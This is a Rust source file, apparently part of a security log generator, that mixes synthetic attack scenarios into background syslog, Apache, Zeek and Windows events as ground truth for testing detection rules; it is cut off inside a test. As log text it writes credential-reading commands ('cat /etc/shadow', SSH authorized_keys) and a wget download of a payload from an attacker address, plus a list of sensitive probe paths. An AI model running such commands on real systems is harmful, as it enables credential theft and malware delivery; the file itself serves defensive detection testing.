//! Attack scenarios mixed into the background: what each writes ([`Injection`]), when
//! ([`Attack`]), from which attacker entities (never used by the background), and the exact
//! [`ground_truth`] of what a stream carries.

use super::tables::{ATTACKER_RID_BASE, DOMAIN_SID, INVALID_USERS, SERVICE_RID_BASE};
use super::windows::Channel;
use super::world::{scatter, splitmix, Host, Role, ROLES};
use super::write::{put_guid, put_hex, put_ipv4, put_u64, put_user};
use super::zeek::Conn;
use super::{GenFormat, Generator, GeneratorConfig};

/// The timing and intensity of one injected attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Attack {
    /// Event time of the first line, as an offset from [`GeneratorConfig::start_ms`] in ms.
    pub start_ms: i64,
    /// Intensity: how many guesses, accounts, paths, ports, hosts, commands ... (see each
    /// [`Injection`] variant for what it counts and how many lines that makes).
    pub count: u32,
    /// Gap between two lines of the scenario in ms of event time; each line is due up to half
    /// a gap later than `n * interval_ms`, a deterministic jitter.
    pub interval_ms: u32,
}

impl Attack {
    const fn new(start_s: i64, count: u32, interval_ms: u32) -> Self {
        Attack { start_ms: start_s * 1000, count, interval_ms }
    }
}

/// An attack scenario mixed into the background traffic. Each emits its lines on the
/// generator's clock (they count toward `events`, replacing background lines), in the format
/// it names, from attacker entities (addresses, accounts, images) that the background never
/// uses, so [`ground_truth`] is exact. A scenario whose format the stream does not carry is
/// skipped, and one that is still running when the stream ends is cut short.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Injection {
    /// Syslog: `count` `Failed password` lines (mostly for root) from one internet address
    /// against one bastion host.
    SshBruteForce(Attack),
    /// Syslog: `count` failures for root from one address, then `Accepted password for root`
    /// from the same address (`count + 1` lines).
    SshBruteForceSuccess(Attack),
    /// Syslog: one address tries `count` distinct real account names, two rounds of one
    /// password each (`2 * count` lines).
    PasswordSpray(Attack),
    /// Syslog: `count` `Failed password for root` lines from one address, `interval_ms` apart
    /// (default 15 min: 4 an hour for 9 hours), below any per-minute brute-force threshold.
    LowAndSlow(Attack),
    /// Syslog: `count` `pam_unix(sshd:auth): authentication failure` lines from one `rhost`.
    PamBruteForce(Attack),
    /// Apache: one client (a content-discovery tool) requests `count` distinct missing paths,
    /// answered 404.
    WebScan(Attack),
    /// Zeek: one internet source probes `count` distinct TCP ports of one server (S0/REJ,
    /// SF for the few open ports).
    VerticalScan(Attack),
    /// Zeek: one internal source (a compromised host) probes port 445 on `count` servers.
    HorizontalScan(Attack),
    /// Syslog, server compromise chain: `Accepted password` from an internet address for a
    /// service account, then `count` sudo commands: recon/persistence (`id`, `cat /etc/shadow`,
    /// `crontab -l`, ...) ending with a `wget` download of a payload (`count + 1` lines).
    CompromiseChain(Attack),
    /// Windows: `count` 4625 logon failures, one per account, from one source address.
    WindowsLogonFailures(Attack),
    /// Windows: one account requests RC4 (0x17) service tickets (4769) for `count` service
    /// accounts.
    Kerberoasting(Attack),
    /// Windows: one account logs on over the network (4624, type 3, NTLM) to `count`
    /// workstations.
    LateralMovement(Attack),
    /// Windows: `count` Sysmon 10 accesses to lsass.exe with 0x1010/0x1410 from a dropped tool.
    LsassAccess(Attack),
}

impl Injection {
    /// Every scenario with its default timing, staggered over the first five minutes of a
    /// stream (a default 1,000,000-event stream spans about 500 s); `LowAndSlow` needs hours.
    pub fn all() -> Vec<Injection> {
        vec![
            Injection::SshBruteForce(Attack::new(30, 60, 500)),
            Injection::SshBruteForceSuccess(Attack::new(60, 30, 1_000)),
            Injection::PasswordSpray(Attack::new(90, 40, 1_500)),
            Injection::LowAndSlow(Attack::new(10, 36, 900_000)),
            Injection::PamBruteForce(Attack::new(120, 40, 700)),
            Injection::WebScan(Attack::new(45, 200, 150)),
            Injection::VerticalScan(Attack::new(75, 300, 50)),
            Injection::HorizontalScan(Attack::new(150, 200, 80)),
            Injection::CompromiseChain(Attack::new(200, 6, 8_000)),
            Injection::WindowsLogonFailures(Attack::new(100, 40, 600)),
            Injection::Kerberoasting(Attack::new(180, 12, 400)),
            Injection::LateralMovement(Attack::new(240, 8, 15_000)),
            Injection::LsassAccess(Attack::new(300, 2, 2_000)),
        ]
    }

    /// The scenario's name, as [`InjectedAttack::kind`] gives it.
    pub fn kind(&self) -> &'static str {
        match self {
            Injection::SshBruteForce(_) => "ssh_brute_force",
            Injection::SshBruteForceSuccess(_) => "ssh_brute_force_success",
            Injection::PasswordSpray(_) => "password_spray",
            Injection::LowAndSlow(_) => "low_and_slow",
            Injection::PamBruteForce(_) => "pam_brute_force",
            Injection::WebScan(_) => "web_scan",
            Injection::VerticalScan(_) => "vertical_port_scan",
            Injection::HorizontalScan(_) => "horizontal_port_scan",
            Injection::CompromiseChain(_) => "compromise_chain",
            Injection::WindowsLogonFailures(_) => "windows_logon_failures",
            Injection::Kerberoasting(_) => "kerberoasting",
            Injection::LateralMovement(_) => "lateral_movement",
            Injection::LsassAccess(_) => "lsass_access",
        }
    }

    /// Timing and intensity.
    pub fn attack(&self) -> Attack {
        match *self {
            Injection::SshBruteForce(a)
            | Injection::SshBruteForceSuccess(a)
            | Injection::PasswordSpray(a)
            | Injection::LowAndSlow(a)
            | Injection::PamBruteForce(a)
            | Injection::WebScan(a)
            | Injection::VerticalScan(a)
            | Injection::HorizontalScan(a)
            | Injection::CompromiseChain(a)
            | Injection::WindowsLogonFailures(a)
            | Injection::Kerberoasting(a)
            | Injection::LateralMovement(a)
            | Injection::LsassAccess(a) => a,
        }
    }

    /// The format its lines are in (Zeek lines follow the stream: JSON, or TSV in a TSV stream).
    pub fn format(&self) -> GenFormat {
        match self {
            Injection::SshBruteForce(_)
            | Injection::SshBruteForceSuccess(_)
            | Injection::PasswordSpray(_)
            | Injection::LowAndSlow(_)
            | Injection::PamBruteForce(_)
            | Injection::CompromiseChain(_) => GenFormat::Syslog,
            Injection::WebScan(_) => GenFormat::Apache,
            Injection::VerticalScan(_) | Injection::HorizontalScan(_) => GenFormat::Zeek,
            Injection::WindowsLogonFailures(_) | Injection::Kerberoasting(_) | Injection::LateralMovement(_) | Injection::LsassAccess(_) => GenFormat::Windows,
        }
    }

    /// Number of lines the scenario writes when the stream is long enough.
    pub fn lines(&self) -> u64 {
        let count = self.attack().count as u64;
        match self {
            Injection::SshBruteForceSuccess(_) | Injection::CompromiseChain(_) => count + 1,
            Injection::PasswordSpray(_) => 2 * count,
            _ => count,
        }
    }

    /// The format it is written in within a stream of `stream` format, if that stream carries it.
    fn output_format(&self, stream: GenFormat) -> Option<GenFormat> {
        match (self.format(), stream) {
            (GenFormat::Zeek, GenFormat::ZeekTsv) => Some(GenFormat::ZeekTsv),
            (f, GenFormat::Mixed) => Some(f),
            (f, s) if f == s => Some(f),
            _ => None,
        }
    }
}

/// One injected attack as it was written: the ground truth a detection is scored against.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct InjectedAttack {
    /// [`Injection::kind`].
    pub kind: &'static str,
    /// The attacker entity, as the field the detection groups by carries it: the source
    /// address (`source.ip`, Windows `IpAddress`) for network and SSH scenarios, the account
    /// (`TargetUserName`) for Kerberoasting and lateral movement, the tool's `SourceImage` for
    /// LSASS access.
    pub entity: String,
    /// Event time of the first line, in ms, as the line carries it (syslog and Apache lines have
    /// whole seconds).
    pub start_ms: i64,
    /// Event time of the last line, in ms, likewise.
    pub end_ms: i64,
    /// The format of its lines (`ZeekTsv` for scans in a TSV stream).
    pub format: GenFormat,
    /// Lines written (fewer than [`Injection::lines`] when the stream ended first).
    pub lines: u64,
}

/// The attacks `cfg` injects, exactly as its stream carries them (runs the generator and throws
/// the bytes away; a scenario none of whose lines fit in the stream is absent).
pub fn ground_truth(cfg: &GeneratorConfig) -> Vec<InjectedAttack> {
    let mut generator = Generator::new(cfg.clone());
    let mut buf = Vec::with_capacity(4096);
    while generator.next_line(&mut buf).is_some() {
        buf.clear();
    }
    generator.injected()
}

/// The run-time state of one scenario.
pub(super) struct Scheduled {
    injection: Injection,
    /// Its position in the configuration: picks its attacker entities.
    slot: u64,
    format: GenFormat,
    entity: String,
    lines: u64,
    next: u64,
    /// Event time (µs) at which line `next` is due.
    pub(super) due_us: i64,
    first_ms: i64,
    last_ms: i64,
    base_us: i64,
}

impl Scheduled {
    fn due(&self, n: u64) -> i64 {
        let gap = self.injection.attack().interval_ms as i64 * 1000;
        let jitter = if gap >= 2 { (splitmix(self.slot << 32 ^ n) % (gap as u64 / 2)) as i64 } else { 0 };
        self.base_us.saturating_add((n as i64).saturating_mul(gap)).saturating_add(jitter)
    }
}

/// First octets of the attackers' internet addresses: none is in [`PUBLIC_FIRST_OCTETS`](super::tables::PUBLIC_FIRST_OCTETS), so
/// no background address can equal one.
const ATTACKER_FIRST_OCTETS: [u8; 6] = [61, 218, 92, 179, 43, 116];

/// The internet address of the attacker of scenario `slot` (`salt` picks a second one).
fn attacker_ip(slot: u64, salt: u64) -> [u8; 4] {
    let h = splitmix(slot ^ (salt << 20) ^ 0xa77a_c4e5);
    [ATTACKER_FIRST_OCTETS[(h % ATTACKER_FIRST_OCTETS.len() as u64) as usize], (h >> 8) as u8, (h >> 16) as u8, (1 + (h >> 24) % 254) as u8]
}

/// An internal address of a compromised host: 10.255.0.0/16, which neither workstations
/// (10.1-254.x.x) nor servers (10.0.x.x) use.
fn insider_ip(slot: u64) -> [u8; 4] {
    let h = splitmix(slot ^ 0x1d5e_7000);
    [10, 255, (h >> 8) as u8, (1 + (h >> 16) % 254) as u8]
}

fn ip_string(ip: [u8; 4]) -> String {
    let mut out = Vec::with_capacity(15);
    put_ipv4(&mut out, ip);
    String::from_utf8(out).unwrap_or_default()
}

/// Accounts the attacker-controlled names are built from; none is a background first name.
fn attacker_account(slot: u64, prefix: &str) -> String {
    format!("{prefix}{}", slot + 1)
}

const SCAN_PATHS: &[&[u8]] = &[
    b"/.env",
    b"/.git/config",
    b"/wp-login.php",
    b"/wp-admin/",
    b"/phpmyadmin/",
    b"/admin",
    b"/administrator/",
    b"/backup",
    b"/config",
    b"/db",
    b"/dump",
    b"/old",
    b"/test",
    b"/server-status",
    b"/shell",
    b"/cgi-bin/test",
    b"/console",
    b"/manager/html",
    b"/.aws/credentials",
    b"/vendor/phpunit",
    b"/private",
    b"/upload",
    b"/uploads/shell",
    b"/install",
    b"/setup",
    b"/debug",
    b"/actuator/env",
    b"/solr/admin",
    b"/jenkins",
    b"/.svn/entries",
];
const SCAN_SUFFIXES: &[&[u8]] = &[b"", b".php", b".bak", b".zip", b".old", b".tar.gz", b"~", b".sql", b".txt", b"/index.php"];
const SCANNER_AGENT: &[u8] = b"gobuster/3.6";

/// Ports a port scanner tries first (nmap's top ports), then it walks upward from 1.
const TOP_PORTS: &[u64] = &[21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900, 8080];
/// Ports the scanned server answers on.
const OPEN_PORTS: &[u64] = &[22, 80, 443];

/// Service accounts with SPNs: the background's six and ones it never requests.
const ROASTED_SERVICES: &[&[u8]] = &[
    b"svc_sql",
    b"svc_web",
    b"svc_backup",
    b"svc_sharepoint",
    b"svc_jenkins",
    b"svc_reporting",
    b"svc_mssql_dev",
    b"svc_exchange",
    b"svc_adfs",
    b"svc_crm",
    b"svc_sccm",
    b"svc_vcenter",
    b"svc_splunk",
    b"svc_bamboo",
    b"svc_oracle",
    b"svc_citrix",
];

/// The recon and persistence commands of the compromise chain; its last command is a download.
const CHAIN_COMMANDS: &[&[u8]] = &[
    b"/usr/bin/id",
    b"/bin/uname -a",
    b"/bin/cat /etc/shadow",
    b"/usr/bin/crontab -l",
    b"/bin/ps aux",
    b"/usr/bin/last -n 20",
    b"/bin/cat /root/.ssh/authorized_keys",
];

/// The attacker's own machine as Windows names it in `WorkstationName`: `WIN-` and 11
/// characters, as a fresh Windows install names itself; background hosts are `WS-nnnnn`.
fn put_attacker_host(out: &mut Vec<u8>, slot: u64) {
    const CHARS: &[u8; 36] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
    let mut h = splitmix(slot ^ 0x0077_1e57);
    out.extend_from_slice(b"WIN-");
    for _ in 0..11 {
        out.push(CHARS[(h % 36) as usize]);
        h /= 36;
    }
}

impl Generator {
    /// The attacks injected so far, with the event times their lines carry.
    pub fn injected(&self) -> Vec<InjectedAttack> {
        self.scheduled
            .iter()
            .filter(|s| s.next > 0)
            .map(|s| InjectedAttack {
                kind: s.injection.kind(),
                entity: s.entity.clone(),
                start_ms: s.first_ms,
                end_ms: s.last_ms,
                format: s.format,
                lines: s.next,
            })
            .collect()
    }

    pub(super) fn schedule(cfg: &GeneratorConfig) -> Vec<Scheduled> {
        let mut scheduled = Vec::new();
        for (slot, injection) in cfg.injections.iter().enumerate() {
            let Some(format) = injection.output_format(cfg.format) else { continue };
            let slot = slot as u64;
            let entity = match injection {
                Injection::HorizontalScan(_) | Injection::WindowsLogonFailures(_) => ip_string(insider_ip(slot)),
                Injection::Kerberoasting(_) => format!("{}@CORP.EXAMPLE.COM", attacker_account(slot, "helpdesk")),
                Injection::LateralMovement(_) => attacker_account(slot, "itadmin"),
                Injection::LsassAccess(_) => format!(r"C:\Users\Public\Downloads\svcupd{}.exe", slot + 1),
                _ => ip_string(attacker_ip(slot, 0)),
            };
            let base_us = cfg.start_ms.saturating_add(injection.attack().start_ms).saturating_mul(1000);
            let mut s =
                Scheduled { injection: *injection, slot, format, entity, lines: injection.lines(), next: 0, due_us: 0, first_ms: 0, last_ms: 0, base_us };
            s.due_us = s.due(0);
            if s.lines > 0 {
                scheduled.push(s);
            }
        }
        scheduled
    }

    /// The hook where attack scenarios take their turn before the background traffic: the
    /// scenario whose next line is due earliest (at or before the current event time) writes it
    /// and names its format.
    pub(super) fn inject(&mut self, out: &mut Vec<u8>) -> Option<GenFormat> {
        let now = self.clock.now_us;
        if self.next_due_us > now {
            return None;
        }
        let mut best: Option<usize> = None;
        for (i, s) in self.scheduled.iter().enumerate() {
            if s.next < s.lines && s.due_us <= now && best.is_none_or(|b| s.due_us < self.scheduled[b].due_us) {
                best = Some(i);
            }
        }
        let i = best?;
        let (injection, slot, n, format) = {
            let s = &self.scheduled[i];
            (s.injection, s.slot, s.next, s.format)
        };
        let entity = std::mem::take(&mut self.scheduled[i].entity);
        self.write_attack(injection, slot, n, format, entity.as_bytes(), out);
        let ts_ms = match format {
            GenFormat::Syslog | GenFormat::Apache => self.clock.second.saturating_mul(1000),
            _ => now.div_euclid(1000),
        };
        let s = &mut self.scheduled[i];
        s.entity = entity;
        if n == 0 {
            s.first_ms = ts_ms;
        }
        s.last_ms = ts_ms;
        s.next += 1;
        s.due_us = s.due(s.next);
        self.next_due_us = self.scheduled.iter().filter(|s| s.next < s.lines).map(|s| s.due_us).min().unwrap_or(i64::MAX);
        Some(format)
    }

    /// Writes line `n` of scenario `injection` (configuration slot `slot`), without its `\n`.
    fn write_attack(&mut self, injection: Injection, slot: u64, n: u64, format: GenFormat, entity: &[u8], out: &mut Vec<u8>) {
        let count = injection.attack().count as u64;
        let h = splitmix(slot << 40 ^ n ^ 0x0bad_5eed);
        let port = 32_768 + h % 28_000;
        let pid = 2_000 + (h >> 20) % 60_000;
        let bastion = Role::Bastion as u64;
        match injection {
            Injection::SshBruteForce(_) | Injection::SshBruteForceSuccess(_) | Injection::LowAndSlow(_) | Injection::PasswordSpray(_) => {
                // The low-and-slow guesser works on the second bastion, the others on the first.
                let server = match injection {
                    Injection::LowAndSlow(_) => bastion + ROLES.len() as u64 * (1 % self.world.role_count(bastion)),
                    _ => bastion,
                };
                self.syslog_head(out, server, b"sshd", pid);
                match injection {
                    Injection::SshBruteForceSuccess(_) if n == count => out.extend_from_slice(b"Accepted password for root from "),
                    Injection::PasswordSpray(_) => {
                        out.extend_from_slice(b"Failed password for ");
                        put_user(out, scatter(n % count.max(1), self.world.users));
                        out.extend_from_slice(b" from ");
                    }
                    Injection::SshBruteForce(_) if n % 5 == 4 => {
                        out.extend_from_slice(b"Failed password for invalid user ");
                        out.extend_from_slice(INVALID_USERS[(n / 5 % INVALID_USERS.len() as u64) as usize]);
                        out.extend_from_slice(b" from ");
                    }
                    _ => out.extend_from_slice(b"Failed password for root from "),
                }
                out.extend_from_slice(entity);
                out.extend_from_slice(b" port ");
                put_u64(out, port);
                out.extend_from_slice(b" ssh2");
            }
            Injection::PamBruteForce(_) => {
                self.syslog_head(out, Role::Vpn as u64, b"sshd", pid);
                out.extend_from_slice(b"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"  user=root");
            }
            Injection::CompromiseChain(_) => {
                let account = attacker_account(slot, "webadmin");
                if n == 0 {
                    self.syslog_head(out, Role::Web as u64, b"sshd", pid);
                    out.extend_from_slice(b"Accepted password for ");
                    out.extend_from_slice(account.as_bytes());
                    out.extend_from_slice(b" from ");
                    out.extend_from_slice(entity);
                    out.extend_from_slice(b" port ");
                    put_u64(out, port);
                    out.extend_from_slice(b" ssh2");
                } else {
                    out.extend_from_slice(&self.clock.syslog);
                    out.push(b' ');
                    self.world.put_server(out, Role::Web as u64);
                    out.extend_from_slice(b" sudo:   ");
                    out.extend_from_slice(account.as_bytes());
                    out.extend_from_slice(b" : TTY=pts/0 ; PWD=/home/");
                    out.extend_from_slice(account.as_bytes());
                    out.extend_from_slice(b" ; USER=root ; COMMAND=");
                    if n == count {
                        out.extend_from_slice(b"/usr/bin/wget -q http://");
                        put_ipv4(out, attacker_ip(slot, 1));
                        out.extend_from_slice(b"/.x/kworker.sh -O /tmp/.kworker");
                    } else {
                        out.extend_from_slice(CHAIN_COMMANDS[((n - 1) % CHAIN_COMMANDS.len() as u64) as usize]);
                    }
                }
            }
            Injection::WebScan(_) => {
                out.extend_from_slice(entity);
                out.extend_from_slice(b" - - [");
                out.extend_from_slice(&self.clock.clf);
                out.extend_from_slice(b"] \"GET ");
                let paths = SCAN_PATHS.len() as u64;
                let suffixes = SCAN_SUFFIXES.len() as u64;
                out.extend_from_slice(SCAN_PATHS[(n % paths) as usize]);
                out.extend_from_slice(SCAN_SUFFIXES[(n / paths % suffixes) as usize]);
                if n >= paths * suffixes {
                    out.push(b'/');
                    put_u64(out, n / (paths * suffixes));
                }
                out.extend_from_slice(b" HTTP/1.1\" 404 ");
                put_u64(out, 196 + h % 40);
                out.extend_from_slice(b" \"-\" \"");
                out.extend_from_slice(SCANNER_AGENT);
                out.push(b'"');
            }
            Injection::VerticalScan(_) | Injection::HorizontalScan(_) => {
                let vertical = matches!(injection, Injection::VerticalScan(_));
                let (orig, resp, resp_p) = if vertical {
                    let top = TOP_PORTS.len() as u64;
                    let port = if n < top { TOP_PORTS[n as usize] } else { 10_000 + (n - top) % 55_536 };
                    (attacker_ip(slot, 0), self.world.server_ip(Role::Web as u64), port)
                } else {
                    (insider_ip(slot), [10, 0, (n / 250 % 256) as u8, (1 + n % 250) as u8], 445)
                };
                let open = if vertical { OPEN_PORTS.contains(&resp_p) } else { h.is_multiple_of(10) };
                let mut c = Conn {
                    uid: self.new_uid(),
                    orig,
                    // One raw socket per scan: the source port stays.
                    orig_p: 40_000 + splitmix(slot) % 20_000,
                    resp,
                    resp_p,
                    proto: b"tcp",
                    service: None,
                    state: b"S0",
                    history: Some(b"S"),
                    duration_us: None,
                    bytes: None,
                    orig_pkts: 1,
                    resp_pkts: 0,
                };
                if open {
                    // SYN, SYN-ACK, then the scanner's RST.
                    c.state = b"RSTO";
                    c.history = Some(b"ShR");
                    c.orig_pkts = 2;
                    c.resp_pkts = 1;
                    c.duration_us = Some(200 + h % 2_000);
                    c.bytes = Some((0, 0));
                } else if h >> 8 & 1 == 0 {
                    c.state = b"REJ";
                    c.history = Some(b"Sr");
                    c.resp_pkts = 1;
                    c.duration_us = Some(20 + h % 3_000);
                    c.bytes = Some((0, 0));
                }
                if format == GenFormat::ZeekTsv {
                    self.conn_tsv(&c, out);
                } else {
                    self.conn_json(&c, out);
                }
            }
            Injection::WindowsLogonFailures(_) => {
                self.win_head(out, Host::Server(Role::File as u64), 4625, Channel::Failure);
                out.extend_from_slice(b"\"TargetUserSid\":\"S-1-0-0\",\"TargetUserName\":\"");
                put_user(out, scatter(n, self.world.users));
                out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\",\"Status\":\"0xc000006d\",\"SubStatus\":\"0xc000006a\",\"FailureReason\":\"%%2313\",\"LogonType\":\"3\",\"LogonProcessName\":\"NtLmSsp \",\"AuthenticationPackageName\":\"NTLM\",\"WorkstationName\":\"");
                put_attacker_host(out, slot);
                out.extend_from_slice(b"\",\"IpAddress\":\"");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, port);
                out.extend_from_slice(b"\"}");
            }
            Injection::Kerberoasting(_) => {
                self.win_head(out, Host::Server(Role::Dc as u64), 4769, Channel::Success);
                out.extend_from_slice(b"\"TargetUserName\":\"");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP.EXAMPLE.COM\",\"ServiceName\":\"");
                let service = (n % ROASTED_SERVICES.len() as u64) as usize;
                out.extend_from_slice(ROASTED_SERVICES[service]);
                out.extend_from_slice(b"\",\"ServiceSid\":\"");
                out.extend_from_slice(DOMAIN_SID);
                put_u64(out, SERVICE_RID_BASE + service as u64);
                out.extend_from_slice(b"\",\"TicketOptions\":\"0x40810000\",\"TicketEncryptionType\":\"0x17\",\"IpAddress\":\"::ffff:");
                put_ipv4(out, insider_ip(slot));
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, port);
                out.extend_from_slice(b"\",\"Status\":\"0x0\",\"LogonGuid\":\"");
                put_guid(out, &mut self.rng);
                out.extend_from_slice(b"\",\"TransmittedServices\":\"-\"}");
            }
            Injection::LateralMovement(_) => {
                let target = scatter(n * 7 + 3 + slot, self.world.users);
                self.win_head(out, Host::Ws(target), 4624, Channel::Success);
                out.extend_from_slice(b"\"TargetUserSid\":\"");
                out.extend_from_slice(DOMAIN_SID);
                put_u64(out, ATTACKER_RID_BASE + slot);
                out.extend_from_slice(b"\",\"TargetUserName\":\"");
                out.extend_from_slice(entity);
                out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\",\"TargetLogonId\":\"0x");
                put_hex(out, 0x10000 + h % 0x0fff_0000);
                out.extend_from_slice(
                    b"\",\"LogonType\":\"3\",\"LogonProcessName\":\"NtLmSsp \",\"AuthenticationPackageName\":\"NTLM\",\"WorkstationName\":\"",
                );
                put_attacker_host(out, slot);
                out.extend_from_slice(b"\",\"IpAddress\":\"");
                put_ipv4(out, insider_ip(slot));
                out.extend_from_slice(b"\",\"IpPort\":\"");
                put_u64(out, port);
                out.extend_from_slice(b"\"}");
            }
            Injection::LsassAccess(_) => {
                let victim = scatter(slot * 13 + 5, self.world.users);
                self.win_head(out, Host::Ws(victim), 10, Channel::Sysmon);
                self.utc_time(out);
                out.extend_from_slice(b",\"SourceProcessGUID\":\"");
                put_guid(out, &mut self.rng);
                out.extend_from_slice(b"\",\"SourceProcessId\":\"");
                put_u64(out, pid & !3);
                out.extend_from_slice(b"\",\"SourceImage\":\"");
                for &b in entity {
                    if b == b'\\' {
                        out.push(b'\\');
                    }
                    out.push(b);
                }
                out.extend_from_slice(b"\",\"TargetProcessGUID\":\"");
                put_guid(out, &mut self.rng);
                out.extend_from_slice(b"\",\"TargetProcessId\":\"");
                put_u64(out, 600 + (splitmix(victim) % 200) * 4);
                out.extend_from_slice(b"\",\"TargetImage\":\"C:\\\\Windows\\\\system32\\\\lsass.exe\",\"GrantedAccess\":\"");
                out.extend_from_slice(if n.is_multiple_of(2) { b"0x1010" } else { b"0x1410" });
                out.extend_from_slice(b"\",\"CallTrace\":\"C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+9d4c4|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+2c13e|UNKNOWN(00007FF6A41B2C3D)\",\"SourceUser\":\"CORP\\\\");
                put_user(out, victim);
                out.extend_from_slice(b"\",\"TargetUser\":\"NT AUTHORITY\\\\SYSTEM\"}");
            }
        }
    }
}

/// Injected attacks: their lines, ground truth, and the default rule set (`topologies/rules`)
/// against them and against the background.
#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::field::intern;
    use crate::event::Event;
    use crate::generate::{write_all, write_split, MIXED_PARTS};
    use crate::parse::{new_parser, ParseOptions};
    use crate::rules::yaml::Node;
    use crate::rules::{document, RuleSet, SigmaDocument};
    use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
    use std::path::{Path, PathBuf};

    /// A field's value as text.
    fn text(ev: &Event, name: &str) -> Option<String> {
        let id = intern(name)?;
        crate::rules::pattern::with_text(ev.get(id)?, str::to_string)
    }

    /// Parses `bytes` (one format) line by line: every event, and whether its line mentions `needle`.
    fn parse(format: GenFormat, cfg: &GeneratorConfig, bytes: &[u8], needle: &[u8]) -> Vec<(Event, bool)> {
        let opts = ParseOptions { year: Some(cfg.year()), ..ParseOptions::default() };
        let mut parser = new_parser(format.parser_format().unwrap(), &opts);
        let mut out = Vec::new();
        for line in bytes.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
            let mut events = Vec::new();
            parser.parse(line, &mut events).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(line)));
            let hit = !needle.is_empty() && line.windows(needle.len()).any(|w| w == needle);
            out.extend(events.into_iter().map(|ev| (ev, hit)));
        }
        out
    }

    /// A single-format stream holding `injection` (started 5 s in), long enough to finish it;
    /// the rate is lowered for long scenarios so the stream stays near 60,000 lines.
    fn attack_config(injection: Injection, seed: u64) -> GeneratorConfig {
        let mut attack = injection.attack();
        attack.start_ms = 5_000;
        let injection = match injection {
            Injection::SshBruteForce(_) => Injection::SshBruteForce(attack),
            Injection::SshBruteForceSuccess(_) => Injection::SshBruteForceSuccess(attack),
            Injection::PasswordSpray(_) => Injection::PasswordSpray(attack),
            Injection::LowAndSlow(_) => Injection::LowAndSlow(attack),
            Injection::PamBruteForce(_) => Injection::PamBruteForce(attack),
            Injection::WebScan(_) => Injection::WebScan(attack),
            Injection::VerticalScan(_) => Injection::VerticalScan(attack),
            Injection::HorizontalScan(_) => Injection::HorizontalScan(attack),
            Injection::CompromiseChain(_) => Injection::CompromiseChain(attack),
            Injection::WindowsLogonFailures(_) => Injection::WindowsLogonFailures(attack),
            Injection::Kerberoasting(_) => Injection::Kerberoasting(attack),
            Injection::LateralMovement(_) => Injection::LateralMovement(attack),
            Injection::LsassAccess(_) => Injection::LsassAccess(attack),
        };
        let span_s = 10.0 + injection.lines() as f64 * attack.interval_ms as f64 / 1000.0;
        let rate = (60_000.0 / span_s).clamp(1.0, 2_000.0);
        GeneratorConfig {
            seed,
            events: (span_s * rate * 1.1) as u64 + 100,
            format: injection.format(),
            rate_per_sec: rate,
            injections: vec![injection],
            ..GeneratorConfig::default()
        }
    }

    /// The bytes by which an attack's lines can be found: its entity as the line writes it.
    fn needle(attack: &InjectedAttack) -> Vec<u8> {
        attack.entity.replace('\\', "\\\\").into_bytes()
    }

    struct AttackRun {
        cfg: GeneratorConfig,
        truth: InjectedAttack,
        /// Every event of the stream, marked when it is the attack's.
        events: Vec<(Event, bool)>,
    }

    fn run(injection: Injection) -> AttackRun {
        let cfg = attack_config(injection, 17);
        let truth = ground_truth(&cfg);
        assert_eq!(truth.len(), 1, "{injection:?}");
        let truth = truth.into_iter().next().unwrap();
        let mut bytes = Vec::new();
        write_all(&cfg, &mut bytes).unwrap();
        // The chain's sudo lines do not carry the address: find them by the account.
        let needle = if truth.kind == "compromise_chain" { attacker_account(0, "webadmin").into_bytes() } else { needle(&truth) };
        let events = parse(cfg.format, &cfg, &bytes, &needle);
        AttackRun { cfg, truth, events }
    }

    fn distinct(events: &[&Event], field: &str) -> BTreeSet<String> {
        events.iter().filter_map(|ev| text(ev, field)).collect()
    }

    #[test]
    fn injected_attacks_parse_with_their_properties_and_exact_ground_truth() {
        for injection in Injection::all() {
            let AttackRun { cfg, truth, events } = run(injection);
            let kind = injection.kind();
            let attack: Vec<&Event> = events.iter().filter(|(_, hit)| *hit).map(|(ev, _)| ev).collect();
            let count = injection.attack().count as usize;
            assert_eq!(truth.kind, kind);
            assert_eq!(truth.format, injection.format());
            assert_eq!(truth.lines, injection.lines(), "{kind}");
            assert_eq!(attack.len() as u64, truth.lines, "{kind}: lines found by entity");
            assert_eq!(attack.first().unwrap().ts, truth.start_ms, "{kind}");
            assert_eq!(attack.last().unwrap().ts, truth.end_ms, "{kind}");
            assert!(truth.start_ms >= cfg.start_ms + 5_000, "{kind}");
            let field = |ev: &Event, name: &str| text(ev, name).unwrap_or_else(|| panic!("{kind}: no {name}"));
            match injection {
                Injection::SshBruteForce(_) | Injection::SshBruteForceSuccess(_) | Injection::LowAndSlow(_) | Injection::PasswordSpray(_) => {
                    assert_eq!(distinct(&attack, "host.hostname").len(), 1, "{kind}");
                    assert!(attack.iter().all(|ev| field(ev, "source.ip") == truth.entity));
                    let (last, failures) = if matches!(injection, Injection::SshBruteForceSuccess(_)) {
                        (attack.len() - 1, &attack[..attack.len() - 1])
                    } else {
                        (attack.len(), &attack[..])
                    };
                    assert!(failures.iter().all(|ev| field(ev, "system.auth.ssh.event") == "Failed" && field(ev, "event.outcome") == "failure"));
                    if last < attack.len() {
                        assert_eq!(field(attack[last], "system.auth.ssh.event"), "Accepted");
                        assert_eq!(field(attack[last], "user.name"), "root");
                    }
                    match injection {
                        Injection::PasswordSpray(_) => {
                            let mut per_user: HashMap<String, usize> = HashMap::new();
                            for ev in &attack {
                                *per_user.entry(field(ev, "user.name")).or_default() += 1;
                            }
                            assert_eq!(per_user.len(), count, "{kind}: distinct users");
                            assert!(per_user.values().all(|&n| n <= 2));
                        }
